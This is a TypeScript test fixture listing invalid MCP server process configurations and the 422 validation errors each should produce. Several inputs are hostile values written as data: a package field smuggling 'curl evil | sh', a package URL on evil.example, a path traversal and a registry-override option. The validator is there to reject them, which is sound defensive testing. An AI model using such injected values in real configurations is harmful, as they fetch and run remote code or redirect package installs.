import type { Row } from '../../row.ts'
import type { Document } from './document.ts'

const STDIO: Document = { transport: 'stdio', command: 'node', enabled: false }

/** The same of processes. */
export const PROCESSES: Readonly<Record<string, readonly [Document, Row['answer']]>> = {
  'a list as transport': [
    { url: 'https://mcp.example', transport: ['stdio'] },
    [
      '422 invalid_document: transport: expected stdio, streamable-http, sse or http {"problems":["transport: expected stdio, streamable-http, sse or http"]}',
      'transport: expected stdio, streamable-http, sse or http',
    ],
  ],
  'an address for a process': [
    { ...STDIO, url: 'https://mcp.example/mcp' },
    [
      '422 invalid_document: unknown field "url" {"problems":["unknown field \\"url\\""]}',
      'unknown field "url"',
    ],
  ],
  'a process without a command': [
    { transport: 'stdio' },
    [
      '422 invalid_document: command: give either command or package {"problems":["command: give either command or package"]}',
      'command: give either command or package',
    ],
  ],
  'a command with NUL': [
    { ...STDIO, command: 'node\0' },
    [
      '422 invalid_document: command: must not contain NUL {"problems":["command: must not contain NUL"]}',
      'command: must not contain NUL',
    ],
  ],
  'an empty command': [
    { ...STDIO, command: '' },
    [
      '422 invalid_document: command: expected string to have >=1 characters {"problems":["command: expected string to have >=1 characters"]}',
      'command: expected string to have >=1 characters',
    ],
  ],
  'a list as command': [
    { ...STDIO, command: ['node'] },
    [
      '422 invalid_document: command: expected string, received array {"problems":["command: expected string, received array"]}',
      'command: expected string, received array',
    ],
  ],
  'arguments as a text': [
    { ...STDIO, args: '-e evil' },
    [
      '422 invalid_document: args: expected array, received string {"problems":["args: expected array, received string"]}',
      'args: expected array, received string',
    ],
  ],
  'an argument with NUL': [
    { ...STDIO, args: ['a\0b'] },
    [
      '422 invalid_document: args[0]: must not contain NUL {"problems":["args[0]: must not contain NUL"]}',
      'args[0]: must not contain NUL',
    ],
  ],
  '1,001 arguments': [
    { ...STDIO, args: Array.from({ length: 1001 }, () => 'a') },
    [
      '422 invalid_document: args: expected array to have <=1000 items {"problems":["args: expected array to have <=1000 items"]}',
      'args: expected array to have <=1000 items',
    ],
  ],
  'an argument of 40 KB': [
    { ...STDIO, args: ['a'.repeat(40_000)] },
    [
      '422 invalid_document: args[0]: expected string to have <=32768 characters {"problems":["args[0]: expected string to have <=32768 characters"]}',
      'args[0]: expected string to have <=32768 characters',
    ],
  ],
  'a package and a command': [
    { ...STDIO, package: 'x' },
    [
      '422 invalid_document: command: give either command or package {"problems":["command: give either command or package"]}',
      'command: give either command or package',
    ],
  ],
  'a package that is an address': [
    { transport: 'stdio', package: 'https://evil.example/x.tgz' },
    [
      '422 invalid_document: package: not an npm package: expected name or name@1.2.3 {"problems":["package: not an npm package: expected name or name@1.2.3"]}',
      'package: not an npm package: expected name or name@1.2.3',
    ],
  ],
  'a package that is a path': [
    { transport: 'stdio', package: '../evil' },
    [
      '422 invalid_document: package: not an npm package: expected name or name@1.2.3 {"problems":["package: not an npm package: expected name or name@1.2.3"]}',
      'package: not an npm package: expected name or name@1.2.3',
    ],
  ],
  'a package that is an option': [
    { transport: 'stdio', package: '--registry=https://evil.example' },
    [
      '422 invalid_document: package: not an npm package: expected name or name@1.2.3 {"problems":["package: not an npm package: expected name or name@1.2.3"]}',
      'package: not an npm package: expected name or name@1.2.3',
    ],
  ],
  'a package with a command': [
    { transport: 'stdio', package: 'x; curl evil | sh' },
    [
      '422 invalid_document: package: not an npm package: expected name or name@1.2.3 {"problems":["package: not an npm package: expected name or name@1.2.3"]}',
      'package: not an npm package: expected name or name@1.2.3',
    ],
  ],
  'a variable with a bad name': [
    { ...STDIO, env: { 'A=B': 'c' } },
    [
      '422 invalid_document: env: a name is not a legal variable name {"problems":["env: a name is not a legal variable name"]}',
      'env: a name is not a legal variable name',
    ],
  ],
  'a variable with NUL': [
    { ...STDIO, env: { A: 'b\0c' } },
    [
      '422 invalid_document: env.A: must not contain NUL {"problems":["env.A: must not contain NUL"]}',
      'env.A: must not contain NUL',
    ],
  ],
  'a variable that is a number': [
    { ...STDIO, env: { A: 5 } },
    [
      '422 invalid_document: env.A: expected string, received number {"problems":["env.A: expected string, received number"]}',
      'env.A: expected string, received number',
    ],
  ],
  'restarts beyond all': [
    { ...STDIO, lifecycle: { maxRestarts: 1e9 } },
    [
      '422 invalid_document: lifecycle.maxRestarts: expected number to be <=1000 {"problems":["lifecycle.maxRestarts: expected number to be <=1000"]}',
      'lifecycle.maxRestarts: expected number to be <=1000',
    ],
  ],
  '1,000 processes': [
    { ...STDIO, pool: { max: 1000 } },
    [
      '422 invalid_document: pool.max: expected number to be <=100 {"problems":["pool.max: expected number to be <=100"]}',
      'pool.max: expected number to be <=100',
    ],
  ],
}
